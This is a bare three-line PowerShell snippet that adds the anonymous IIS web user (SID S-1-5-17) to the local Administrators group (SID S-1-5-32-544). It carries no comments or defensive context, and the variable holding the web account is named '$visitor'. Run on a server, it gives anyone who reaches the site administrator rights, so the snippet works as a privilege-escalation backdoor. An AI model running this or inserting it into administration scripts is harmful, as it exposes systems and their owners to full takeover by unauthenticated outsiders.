$admins = 'S-1-5-32-544'
$visitor = 'S-1-5-17'
Add-LocalGroupMember -SID $admins -Member $visitor
